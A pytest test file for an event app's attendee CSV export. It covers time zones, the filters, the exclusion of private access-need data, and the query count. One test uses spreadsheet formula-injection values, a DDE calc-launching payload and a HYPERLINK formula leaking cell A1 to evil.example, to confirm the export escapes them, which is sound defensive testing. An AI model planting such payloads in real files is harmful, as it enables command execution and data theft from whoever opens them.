"""The attendee CSV: the list's filters, times in the event's zone, answers to the shown
questions, formula-safe cells, never access needs, and a fixed number of queries."""

from __future__ import annotations

import csv
import datetime as dt
import io

from organizer.enums import QuestionKind, RegistrationState, ReservedFor
from organizer.extensions import db
from organizer.services.exports import attendees_csv
from organizer.services.registration.attendees import AttendeeFilters
from tests.factories import make_event, make_user
from tests.registration_factories import (
    make_place_kind,
    make_registration,
    make_registration_question,
    make_settings,
)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_columns_answers_and_times_in_the_event_zone(app):
    event = make_event(timezone="Europe/Lisbon")
    make_settings(event)
    kind = make_place_kind(event, "Remote")
    shirt = make_registration_question(event, "T-shirt size")
    make_registration_question(event, "Organizers only", visible_to_reviewers=False)
    make_registration_question(event, "A file", kind=QuestionKind.FILE)
    make_registration(
        event,
        make_user(name="Ana Lima", email="ana@example.org"),
        badge_name="Ana",
        pronouns="she/her",
        affiliation="Uni Porto",
        place_kind=kind,
        reserved_for=ReservedFor.SPEAKER,
        waived=True,
        checked_in_at=dt.datetime(2027, 3, 29, 8, 30, tzinfo=dt.UTC),
        answers={shirt: "M"},
        dietary=["vegan"],
        notes="Secret access note",
        dietary_other="No celery",
    )
    make_registration(event, make_user(name="Bo"), state=RegistrationState.WAITLISTED)
    text = attendees_csv.render(event, AttendeeFilters())
    header, ana, bo = read(text)
    assert header[:5] == ["Name", "Badge name", "Email", "Pronouns", "Affiliation"]
    assert header[-1] == "T-shirt size" and "Organizers only" not in header
    assert "A file" not in header
    assert ana[:9] == [
        "Ana", "Ana", "ana@example.org", "she/her", "Uni Porto", "Remote", "confirmed",
        "speaker", "yes",
    ]  # fmt: skip
    assert ana[9] == "2027-03-29 09:30"  # Lisbon is on summer time by then
    assert ana[10] == "2026-11-29 12:00"  # NOW, winter time in Lisbon
    assert ana[-1] == "M"
    assert bo[0] == "Bo" and bo[6] == "waitlisted"
    for secret in ("vegan", "Secret access note", "celery"):
        assert secret not in text
    filtered = read(
        attendees_csv.render(event, AttendeeFilters(state=RegistrationState.WAITLISTED))
    )
    assert [row[0] for row in filtered[1:]] == ["Bo"]


def test_cells_a_spreadsheet_would_run_are_guarded(app):
    event = make_event()
    make_registration(
        event,
        make_user(name="=cmd|' /C calc'!A0"),
        affiliation='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        pronouns="+they",
        badge_name="@Ana",
    )
    _header, row = read(attendees_csv.render(event, AttendeeFilters()))
    assert row[4] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert row[3] == "'+they"
    assert row[0] == row[1] == "'@Ana"


def test_the_number_of_queries_does_not_grow(app, queries):
    event = make_event()
    kind = make_place_kind(event)
    question = make_registration_question(event)

    def grow(n: int) -> None:
        for _ in range(n):
            make_registration(event, place_kind=kind, answers={question: "L"}, dietary=["vegan"])

    def count() -> int:
        db.session.commit()
        db.session.expire_all()
        queries.clear()
        attendees_csv.render(event, AttendeeFilters())
        return len(queries)

    grow(5)
    small = count()
    grow(35)
    assert count() == small
